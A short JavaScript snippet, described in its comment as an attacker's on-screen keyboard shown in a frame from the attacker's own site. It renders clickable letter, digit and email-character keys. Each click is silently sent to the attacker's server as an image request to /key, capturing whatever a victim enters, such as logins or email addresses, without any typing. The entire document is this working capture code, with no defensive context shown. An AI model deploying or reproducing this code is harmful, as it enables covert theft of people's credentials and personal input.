// An attacker's on-screen keyboard, in a frame of its own site: no field is typed into, yet each
// key pressed is sent home as it is clicked.
const keys = document.getElementById('keys');
const typed = document.getElementById('typed');
for (const key of [...'abcdefghijklmnopqrstuvwxyz0123456789', '@', '.', '-', '_']) {
  const button = document.createElement('button');
  button.type = 'button';
  button.textContent = `${key} key`;
  button.addEventListener('click', () => {
    typed.value += key;
    new Image().src = `/key?c=${encodeURIComponent(key)}`;
  });
  keys.append(button);
}
